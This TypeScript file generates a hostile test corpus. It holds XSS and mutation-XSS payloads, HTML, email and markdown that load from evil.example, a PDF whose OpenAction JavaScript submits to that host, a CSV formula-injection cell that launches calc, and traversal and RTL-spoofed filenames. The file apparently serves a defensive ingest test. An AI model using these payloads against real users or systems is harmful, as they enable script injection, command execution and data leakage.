// Generates the hostile corpus for hostile-corpus.e2e.test.ts: files that try to run script, fetch remote
// resources or break the ingest (deep nesting, endless lines, NULs, bad encodings, spoofing names). Each file
// says what it expects: imported (with the text that must survive as text) or refused (with the message).

import { strToU8, zipSync } from 'fflate';
import type { DroppedFile } from './harness';

export interface HostileFile extends DroppedFile {
  /** 'imported' or 'failed', and a pattern the row's message must match when it fails. */
  expect: { state: 'imported'; text?: string } | { state: 'failed'; message: RegExp };
}

const EVIL = 'http://evil.example';
/** Sets the sentinel the test checks: any of these running means a script ran. */
const PWN = "window.__pwned='x'";
const STORY = 'Leaders of Norway and Denmark met in Oslo on 2 May 2024 to sign a fisheries agreement.';

const bytes64 = (data: Uint8Array): string => Buffer.from(data).toString('base64');
const text64 = (text: string): string => Buffer.from(text, 'utf8').toString('base64');

function file(name: string, content: string | Uint8Array, expect: HostileFile['expect'], type = ''): HostileFile {
  return { name, base64: typeof content === 'string' ? text64(content) : bytes64(content), type, expect };
}

const page = (title: string, head: string, body: string): string =>
  `<!doctype html><html><head><title>${title}</title>${head}</head>` +
  `<body><article><h1>${title}</h1><p>${STORY}</p>${body}</article></body></html>`;

function htmlFiles(): HostileFile[] {
  const imported = { state: 'imported' as const, text: STORY };
  return [
    file(
      'scripts.html',
      page(
        'Scripts',
        `<script>${PWN}</script>`,
        `<p onclick="${PWN}" onmouseover="${PWN}">Handlers.</p>` +
          `<a href="javascript:${PWN}">js link</a><a href=" JaVaScRiPt:${PWN}">js link 2</a><script src="${EVIL}/a.js"></script>`,
      ),
      imported,
    ),
    file(
      'iframe-srcdoc.html',
      page(
        'Srcdoc',
        '',
        `<iframe srcdoc="<script>parent.__pwned='srcdoc'</script>"></iframe>` +
          `<iframe src="${EVIL}/frame.html"></iframe><frameset><frame src="${EVIL}/f"></frameset>`,
      ),
      imported,
    ),
    file(
      'object-embed.html',
      page('Objects', '', `<object data="${EVIL}/o.swf"></object><embed src="${EVIL}/e.swf">` + '<applet code="x"></applet>'),
      imported,
    ),
    file('meta-refresh.html', page('Refresh', `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh">`, ''), imported),
    file('base-href.html', page('Base', `<base href="${EVIL}/">`, '<img src="pixel.gif"><a href="page.html">relative</a>'), imported),
    file(
      'css.html',
      page(
        'Styles',
        `<link rel="stylesheet" href="${EVIL}/s.css"><style>@import url("${EVIL}/i.css");` +
          ` body{background:url(${EVIL}/bg.png)}</style>`,
        `<p style="background:url('${EVIL}/p.png')">Styled.</p>`,
      ),
      imported,
    ),
    file(
      'remote-images.html',
      page(
        'Images',
        '',
        `<img src="${EVIL}/1.gif" onerror="${PWN}"><img srcset="${EVIL}/2.png 2x">` +
          `<picture><source srcset="${EVIL}/3.webp"></picture><video poster="${EVIL}/4.jpg"></video>` +
          `<audio src="${EVIL}/5.mp3"></audio>`,
      ),
      imported,
    ),
    file(
      'svg.html',
      page(
        'Vectors',
        '',
        `<svg onload="${PWN}"><script>${PWN}</script><image href="${EVIL}/s.png"/></svg>` +
          `<math><mi xlink:href="javascript:${PWN}">m</mi></math>`,
      ),
      imported,
    ),
    file(
      'standalone.svg.html',
      `<svg xmlns="http://www.w3.org/2000/svg" onload="${PWN}"><script>${PWN}</script>` + `<text>${STORY}</text></svg>`,
      { state: 'failed', message: /no text found in the file/ },
    ), // SVG is never read as text
    file(
      'mxss.html',
      page(
        'Mutation',
        '',
        `<noscript><p title="</noscript><img src=x onerror=${PWN}>"></noscript>` +
          `<svg><style><img src=x onerror="${PWN}"></style></svg><math><mtext><table><mglyph><style><img src=x onerror="${PWN}">` +
          '</style></mglyph></table></mtext></math><form><math><mtext></form><form><mglyph><style></math>' +
          `<img src onerror="${PWN}">`,
      ),
      imported,
    ),
    file('entity-script.html', page('Entities', '', `<p>&lt;script&gt;${PWN}&lt;/script&gt; and &lt;img src=x onerror=${PWN}&gt;</p>`), {
      state: 'imported',
      text: `<script>${PWN}</script>`,
    }),
    file('hostile-title.html', `<title>&lt;img src=x onerror="${PWN}"&gt; Talks</title><body><p>${STORY}</p></body>`, {
      state: 'imported',
      text: STORY,
    }),
  ];
}

function eml(): string {
  const boundary = 'b1';
  return [
    'From: Desk <desk@example.org>',
    'To: analyst@example.org',
    'Subject: Harbour talks',
    'Date: Thu, 2 May 2024 09:00:00 +0000',
    'MIME-Version: 1.0',
    `Content-Type: multipart/related; boundary="${boundary}"`,
    '',
    `--${boundary}`,
    'Content-Type: text/html; charset=utf-8',
    '',
    `<html><body onload="${PWN}"><p>${STORY}</p><img src="${EVIL}/mail.gif"><img src="cid:logo@x"><script>${PWN}</script></body></html>`,
    `--${boundary}`,
    'Content-Type: image/png',
    'Content-ID: <logo@x>',
    'Content-Transfer-Encoding: base64',
    '',
    'iVBORw0KGgo=',
    `--${boundary}--`,
    '',
  ].join('\r\n');
}

function docx(): Uint8Array {
  const w = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
  const para = (text: string): string => `<w:p><w:r><w:t xml:space="preserve">${text}</w:t></w:r></w:p>`;
  const documentXml =
    `<?xml version="1.0"?><w:document xmlns:w="${w}"><w:body>${para(STORY)}` +
    `${para(`&lt;script&gt;${PWN}&lt;/script&gt;&lt;img src=x onerror=${PWN}&gt;`)}</w:body></w:document>`;
  return zipSync({ '[Content_Types].xml': strToU8('<Types/>'), 'word/document.xml': strToU8(documentXml) });
}

/** A small PDF with a text page, an OpenAction JavaScript and a URI link annotation (offsets computed). */
function pdf(): Uint8Array {
  const stream = `BT /F1 12 Tf 72 720 Td (${STORY}) Tj ET`;
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript << /Names [(x) 5 0 R] >> >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 6 0 R >> >> /Annots [7 0 R] >>',
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    `<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('${EVIL}/pdf'\\);) >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /Type /Annot /Subtype /Link /Rect [72 700 300 730] /A << /S /URI /URI (${EVIL}/pdf-link) >> >>`,
  ];
  let out = '%PDF-1.4\n';
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(out.length);
    out += `${i + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = out.length;
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`;
  out += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return strToU8(out);
}

function utf16leWithoutBom(text: string): Uint8Array {
  const out = new Uint8Array(text.length * 2);
  for (let i = 0; i < text.length; i++) {
    out[2 * i] = text.charCodeAt(i) & 0xff;
    out[2 * i + 1] = text.charCodeAt(i) >> 8;
  }
  return out;
}

/** HTML-bearing labels and spreadsheet formulas in an event list. */
export const LIST_LABEL = `<img src=x onerror="${PWN}">Harbour talks`;
const FORMULA = `=HYPERLINK("${EVIL}/csv","click")`;

function otherFiles(): HostileFile[] {
  const imported = { state: 'imported' as const, text: STORY };
  const quote = (cell: string): string => `"${cell.replace(/"/g, '""')}"`;
  const csv =
    `date,title,type,place,notes\n2024-05-02,${quote(LIST_LABEL)},meeting,Oslo,${quote(FORMULA)}\n` +
    `2024-05-03,"@SUM(1+1)*cmd|' /C calc'!A0",meeting,Bergen,+1\n`;
  const event = { date: '2024-05-04', title: `<script>${PWN}</script>Fisheries deal`, type: 'agreement', place: 'Oslo' };
  const json = JSON.stringify({ events: [event] });
  return [
    file('mail.eml', eml(), imported, 'message/rfc822'),
    file(
      'raw-html.md',
      `# Talks\n\n${STORY}\n\n<script>${PWN}</script>\n\n<img src="${EVIL}/md.png" onerror="${PWN}">\n\n` +
        `[click](javascript:${PWN}) <iframe src="${EVIL}/md"></iframe>\n`,
      imported,
      'text/markdown',
    ),
    file('events-hostile.csv', csv, { state: 'imported' }, 'text/csv'),
    file('events-hostile.json', json, { state: 'imported' }, 'application/json'),
    file('html-text.docx', docx(), { state: 'imported', text: `<script>${PWN}</script>` }),
    file('actions.pdf', pdf(), { state: 'imported', text: 'Leaders of Norway and Denmark met in Oslo' }, 'application/pdf'),
    file(`<img src=x onerror="${PWN}">.txt`, `${STORY}\nNamed with markup.\n`, imported),
    file('../../etc/passwd.txt', `${STORY}\nNamed with a path.\n`, imported),
    file('evil\u202Egnp.txt', `${STORY}\nNamed with a right-to-left override.\n`, imported),
    file('plain-markup.txt', `${STORY}\n<script>${PWN}</script> <img src=x onerror="${PWN}"> <a href="javascript:${PWN}">x</a>\n`, {
      state: 'imported',
      text: `<script>${PWN}</script>`,
    }),
    file('deep.html', `<body>${'<div>'.repeat(100_000)}<p>${STORY}</p></body>`, imported, 'text/html'),
    file('long-line.txt', `${STORY} ${'x'.repeat(1 << 20)}`, imported),
    file('nul-bytes.txt', Uint8Array.from([...strToU8(STORY), 0, 0, 0, ...strToU8(' more')]), {
      state: 'failed',
      message: /not a text file \(binary content\)/,
    }),
    file('invalid-utf8.txt', Uint8Array.from([...strToU8(STORY), 0xff, 0xfe, 0xc3, 0x28, 0x0a]), imported),
    file('utf16-no-bom.txt', utf16leWithoutBom(`${STORY}\n`), imported),
    file('empty.html', '', { state: 'failed', message: /file is empty/ }),
  ];
}

export function hostileCorpus(): HostileFile[] {
  return [...htmlFiles(), ...otherFiles()];
}
